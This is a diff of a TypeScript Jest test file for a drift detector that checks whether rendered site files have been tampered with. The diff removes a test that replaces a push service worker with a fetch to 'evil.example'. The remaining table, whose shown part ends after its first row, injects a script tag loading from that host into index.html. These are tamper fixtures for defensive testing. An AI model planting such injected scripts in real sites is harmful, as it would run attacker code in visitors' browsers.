@@ -1,24 +1,12 @@
 import { rm } from 'node:fs/promises'
 import { expect, test } from '@jest/globals'
-import { setConfig } from '../change/config.ts'
 import { status, statusText } from '../status/status.ts'
 import { readText } from '../store/store.ts'
 import { clubBeforeEach, editFile, runEach } from '../testing/club.ts'
 import { putRemote } from '../testing/published.ts'
 import { findDrift } from './drift.ts'
-import { render } from './render.ts'
 
 const ops = clubBeforeEach()
-
-test('files that render has written show no drift', async () => {
-  expect(await findDrift(ops.store, ops.keys)).toEqual([])
-  await setConfig(ops, { change: { pushAppId: '5f9e0a1c-7f0b-4c55-9d8e-2b6f4a1c3d5e' } })
-  expect(await findDrift(ops.store, ops.keys)).toEqual([])
-  await ops.store.replace('push/OneSignalSDKWorker.js', 'fetch("https://evil.example")')
-  expect(await findDrift(ops.store, ops.keys)).toHaveLength(1)
-  await render(ops)
-  expect(await findDrift(ops.store, ops.keys)).toEqual([])
-})
 
 test.each([
   ['index.html', '<title>', '<script src="https://evil.example"></script><title>'],
